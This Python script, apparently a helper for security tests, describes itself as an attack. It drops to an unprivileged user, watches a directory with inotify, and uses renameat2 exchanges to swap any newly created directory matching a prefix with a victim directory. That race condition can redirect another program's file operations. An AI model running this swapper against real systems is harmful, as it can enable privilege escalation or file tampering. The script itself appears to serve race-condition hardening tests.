# SPDX-License-Identifier: GPL-3.0-or-later
"""An attack: as soon as a folder of ours appears, another one of the same directory takes its name.

python swapper.py UID DIRECTORY PREFIX VICTIM becomes a user without rights first. It waits for
inotify(7) and exchanges by renameat2(2), says "ready" on its standard error, and an x for each
exchange.
"""

from __future__ import annotations

import ctypes
import os
import struct
import sys

IN_CREATE = 0x100
EXCHANGE = 2
EVENT = struct.Struct("iIII")


def main(uid: str, directory: str, prefix: str, victim: str) -> None:
    libc = ctypes.CDLL(None, use_errno=True)
    os.setgroups([])
    os.setgid(int(uid))
    os.setuid(int(uid))
    watch = libc.inotify_init1(0)
    if libc.inotify_add_watch(watch, directory.encode(), IN_CREATE) < 0:
        raise OSError(ctypes.get_errno(), directory)
    os.chdir(directory)
    here = victim.encode()
    sys.stderr.write("ready\n")
    sys.stderr.flush()
    start = prefix.encode()
    while True:
        events = os.read(watch, 65536)
        while events:
            size = EVENT.unpack_from(events)[3]
            name = events[EVENT.size : EVENT.size + size].rstrip(b"\0")
            events = events[EVENT.size + size :]
            if name.startswith(start):
                struck = libc.renameat2(-100, here, -100, name, EXCHANGE) == 0
                if struck:
                    sys.stderr.write("x\n")
                    sys.stderr.flush()
                    for _again in range(7):
                        libc.renameat2(-100, here, -100, name, EXCHANGE)


if __name__ == "__main__":
    main(*sys.argv[1:])
